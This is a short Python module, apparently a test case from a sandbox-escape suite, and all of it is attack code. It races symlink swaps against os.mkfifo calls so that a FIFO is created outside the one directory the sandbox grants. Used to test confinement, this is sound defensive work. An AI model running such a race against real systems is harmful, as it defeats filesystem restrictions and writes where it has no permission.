"""The same for os.mkfifo()."""
CATEGORY = "races"
REACH = "write"
GRANT = {"write": ["@ROOT@/home"], "read": ["@ROOT@/home"]}

import os
import threading
import time

from . import payload

HOME = payload.ROOT + "/home"


def attack():
    os.mkdir(HOME + "/free")
    link, other = HOME + "/link", HOME + "/other"
    ends = time.monotonic() + 0.7

    def flip():
        while time.monotonic() < ends:
            for target in HOME + "/free", payload.ROOT + "/out":
                os.symlink(target, other)
                os.replace(other, link)

    thread = threading.Thread(target=flip)
    thread.start()
    while time.monotonic() < ends:
        try:
            os.mkfifo(link + "/evil")
        except OSError:
            pass
    thread.join()
